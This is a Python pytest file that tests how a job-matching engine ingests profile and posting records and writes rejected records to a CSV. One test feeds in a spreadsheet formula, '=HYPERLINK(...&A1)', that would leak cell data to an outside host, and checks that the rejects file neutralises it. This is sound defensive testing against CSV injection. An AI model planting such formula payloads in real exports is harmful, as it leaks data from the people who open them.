"""Every record that is handed in is accounted for."""

import csv
import errno
import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from matcher.core.domain import Kind, Outcome, Profile, ProfileId, Record, Rejection
from matcher.core.ports import Encoders
from matcher.engine import Matcher
from matcher.offline import intake
from matcher.offline.intake import REJECT_COLUMNS, Intake, ingest_files
from matcher.stores import open_store
from matcher.stores.snapshots import Snapshots
from tests.fakes import FakeEncoder, FakeThesaurus


@pytest.fixture
def matcher(tmp_path: Path) -> Iterator[Matcher]:
    home = tmp_path / "home"
    opened = Matcher(
        store=open_store(None, home=home),
        encoders=Encoders.alike(FakeEncoder()),
        thesaurus=FakeThesaurus(),
        snapshots=Snapshots(home / "snapshots"),
    )
    opened.open()
    yield opened
    opened.close()


def _file(path: Path, *records: Any) -> Path:
    lines = [record if isinstance(record, str) else json.dumps(record) for record in records]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _profile(id_: str, headline: str = "Data scientist") -> dict[str, str]:
    return {"id": id_, "headline": headline}


def _counts(report: intake.Report) -> dict[str, int]:
    return {outcome.value: count for outcome, count in report.outcomes.items() if count}


def test_every_record_meets_exactly_one_end(matcher: Matcher, tmp_path: Path) -> None:
    first = _file(tmp_path / "first.jsonl", _profile("ana"), {"id": "p1", "title": "Juriste"}, _profile("bob"))
    assert _counts(ingest_files(matcher, [first])) == {"accepted": 3}
    second = _file(
        tmp_path / "second.jsonl",
        _profile("ana"),
        _profile("bob", "Juriste"),
        _profile("cam"),
        _profile("cam"),
        {"id": "dan"},
        "not JSON",
    )
    report = ingest_files(matcher, [second])
    assert _counts(report) == {"unchanged": 1, "updated": 1, "accepted": 1, "duplicate": 1, "rejected": 2}
    assert report.records == 6
    assert (matcher.count(Kind.PROFILE), matcher.count(Kind.POSTING)) == (3, 1)


def test_a_file_that_cannot_be_read_is_told_from_a_record_that_cannot(matcher: Matcher, tmp_path: Path) -> None:
    damaged = tmp_path / "damaged.jsonl.gz"
    damaged.write_bytes(gzip.compress(json.dumps(_profile("ana")).encode())[:-4])
    table = _file(tmp_path / "table.csv", "id,headline,zodiac", "bob,Juriste,lion")
    records = _file(tmp_path / "records.jsonl", {"id": "cam"}, _profile("dan"))
    report = ingest_files(matcher, [damaged, table, records])
    assert (report.outcomes[Outcome.REJECTED], report.unread) == (3, 2)


def test_no_cell_of_the_rejects_is_a_formula(matcher: Matcher, tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    lure = '=HYPERLINK("https://example.org?"&A1)'
    files = [_file(tmp_path / "a.jsonl", {"id": lure}), _file(tmp_path / "b.csv", f"id,headline,{lure.upper()[:9]}")]
    ingest_files(matcher, files, rejects=rejects)
    with rejects.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["record_id"] for row in rows] == [f"'{lure}", ""]
    assert [row["field"] for row in rows] == ["", "'=HYPERLIN"]


def test_rejects_that_cannot_be_written_are_named(matcher: Matcher, tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("there is no /dev/full here")
    with pytest.raises(OSError, match="No space left") as told:
        ingest_files(matcher, [_file(tmp_path / "a.jsonl", {"id": "x"})], rejects=Path("/dev/full"))
    assert told.value.filename == "/dev/full"


def test_a_file_that_is_not_the_rejects_is_named_itself(
    matcher: Matcher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail() -> None:
        raise OSError(errno.ENOSPC, "no space", "the index")

    monkeypatch.setattr(matcher, "snapshot_if_behind", fail)
    with pytest.raises(OSError, match="no space") as told:
        ingest_files(matcher, [], rejects=tmp_path / "rejects.csv")
    assert told.value.filename == "the index"


def test_of_two_versions_in_one_file_the_last_wins(matcher: Matcher, tmp_path: Path) -> None:
    file = _file(tmp_path / "a.jsonl", _profile("ana", "Juriste"), _profile("ana", "Data scientist"))
    assert _counts(ingest_files(matcher, [file])) == {"accepted": 1, "updated": 1}
    assert matcher.get_profile("ana").headline == "Data scientist"


def test_a_version_that_comes_back_wins_again(matcher: Matcher, tmp_path: Path) -> None:
    file = _file(tmp_path / "a.jsonl", *(_profile("ana", headline) for headline in ("un", "deux", "un")))
    assert _counts(ingest_files(matcher, [file])) == {"accepted": 1, "updated": 2}
    assert matcher.get_profile("ana").headline == "un"


def test_of_two_versions_in_one_export_the_first_stands(matcher: Matcher, tmp_path: Path) -> None:
    header = "Par_ref_offre|Par_URL_offre|Libelle_metier_OGR|Description"
    url = "https://place-emploi-public.gouv.fr/offre-emploi/acheteur-hf-reference-2021-1"
    texts = ("Acheter beaucoup.", "Acheter.", "Acheter beaucoup.")
    rows = [f"1|{url}|Acheteur / Acheteuse|{text}" for text in texts]
    export = tmp_path / "export.csv"
    export.write_text("\n".join([header, *rows]), encoding="utf-8")
    assert _counts(ingest_files(matcher, [export])) == {"accepted": 1, "duplicate": 2}
    assert matcher.get_posting("pep-2021-1").description.startswith("Acheter beaucoup.")
    # Between files, the last stands.
    export.write_text("\n".join([header, rows[1]]), encoding="utf-8")
    assert _counts(ingest_files(matcher, [export])) == {"updated": 1}


def test_the_same_record_in_two_files_is_a_duplicate(matcher: Matcher, tmp_path: Path) -> None:
    files = [_file(tmp_path / name, _profile("ana")) for name in ("a.jsonl", "b.jsonl")]
    assert _counts(ingest_files(matcher, files)) == {"accepted": 1, "duplicate": 1}


def test_a_posting_and_a_profile_with_one_id_are_two_records(matcher: Matcher, tmp_path: Path) -> None:
    file = _file(tmp_path / "a.jsonl", _profile("1"), {"id": "1", "title": "Data scientist"})
    assert _counts(ingest_files(matcher, [file])) == {"accepted": 2}


@pytest.mark.no_cover  # others run the same lines; measured, it takes twice as long
@pytest.mark.parametrize("count", [255, 256, 257, 600])
def test_batches_leave_nothing_behind(matcher: Matcher, count: int) -> None:
    taken = Intake(matcher)
    taken.take(Profile(ProfileId(f"c{number}"), "Data scientist") for number in range(count))
    taken.flush()
    taken.flush()
    assert _counts(taken.report) == {"accepted": count}
    assert matcher.count(Kind.PROFILE) == count


def test_every_rejection_goes_to_the_file_and_the_first_hundred_to_the_report(matcher: Matcher, tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    file = _file(tmp_path / "a.jsonl", *({"id": f"c{number}", "headline": ""} for number in range(150)))
    report = ingest_files(matcher, [file], rejects=rejects)
    assert _counts(report) == {"rejected": 150}
    assert len(report.rejections) == 100
    with rejects.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == 150
    assert rows[7]["file"] == "a.jsonl"
    assert (rows[7]["position"], rows[7]["record_id"], rows[7]["field"]) == ("line 8", "c7", "headline")
    assert rows[7]["reason"]


def test_a_row_of_the_rejects_names_all_that_is_wrong_with_a_record(matcher: Matcher, tmp_path: Path) -> None:
    wrong = {"id": "ana", "headline": "Data scientist", "experience_years": "many", "remote": "=often", "=pet": 1}
    table = tmp_path / "b.csv"
    table.write_text("id,headline,experience_years,salary_eur_year_min\nbob,Juriste,many,lots\n")
    ingest_files(matcher, [_file(tmp_path / "a.jsonl", wrong), table], rejects=tmp_path / "rejects.csv")
    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as stream:
        ana, bob = csv.DictReader(stream)
    named = [ana["field"], *(other.partition(": ")[0] for other in ana["others"].split(" | "))]
    assert named == ["remote", "experience_years", "=pet"]
    assert bob["others"] == f"salary_eur_year_min: {bob['reason']}", "in words of a table, both"
    assert "often" not in str(ana)


def test_a_file_without_rejections_still_gets_its_header(matcher: Matcher, tmp_path: Path) -> None:
    ingest_files(matcher, [_file(tmp_path / "a.jsonl", _profile("ana"))], rejects=tmp_path / "rejects.csv")
    assert (tmp_path / "rejects.csv").read_text(encoding="utf-8").strip() == ",".join(REJECT_COLUMNS)


def test_the_bytes_read_are_told(matcher: Matcher, tmp_path: Path) -> None:
    told: list[int] = []
    file = _file(tmp_path / "a.jsonl", *(_profile(f"c{number}") for number in range(10)))
    ingest_files(matcher, [file], on_bytes=told.append)
    assert sum(told) == file.stat().st_size


def test_the_index_is_on_disk_afterwards(matcher: Matcher, tmp_path: Path) -> None:
    ingest_files(matcher, [_file(tmp_path / "a.jsonl", _profile("ana"))])
    assert (tmp_path / "home" / "snapshots" / "CURRENT").exists()


def test_what_was_read_before_a_failure_is_stored(matcher: Matcher) -> None:
    def records() -> Iterator[Record | Rejection]:
        yield Profile(ProfileId("ana"), "Data scientist")
        raise OSError(5, "the disk is gone")

    taken = Intake(matcher)
    with pytest.raises(OSError, match="the disk is gone"):
        taken.take(records())
    taken.flush()
    assert taken.report.outcomes[Outcome.ACCEPTED] == 1


def test_an_unreadable_file_does_not_keep_the_next_from_being_read(matcher: Matcher, tmp_path: Path) -> None:
    empty = tmp_path / "empty.jsonl"
    empty.touch()
    report = ingest_files(matcher, [empty, _file(tmp_path / "a.jsonl", _profile("ana"))])
    assert _counts(report) == {"rejected": 1, "accepted": 1}
    assert report.rejections[0].position == "file"
